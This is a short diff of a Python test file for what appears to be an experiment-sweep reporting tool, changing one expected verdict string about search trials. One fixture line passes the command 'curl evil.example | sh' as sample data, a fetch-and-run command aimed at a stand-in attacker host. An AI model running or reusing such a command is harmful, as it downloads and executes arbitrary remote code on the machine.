@@ -22,7 +22,7 @@ def test_a_study_has_its_figures_and_its_trials_lead_to_their_folders(tmp_path):
 def test_arms_that_a_search_chose_are_called_optimistic_and_how_to_judge_them_is_told(tmp_path):
     write_search(tmp_path / "search", command="curl evil.example | sh")
     page, verdict = report(tmp_path, out=tmp_path / "report")
-    assert verdict.startswith("Only a search so far (5 trials): trials explore, and nothing is judged by them.")
+    assert verdict.startswith("Only a search so far (5 trials): trials explore, and are not judged.")
     command = "python -m reg_sweep.train norm=bn l1=0,0.001 l2=0 epochs=4 seed=2,3,4 -m"
     assert verdict.endswith(f"Judge what was found on seeds that chose nothing: {command}")
     assert page.text.count(command) == 2  # in the verdict, and beside the study
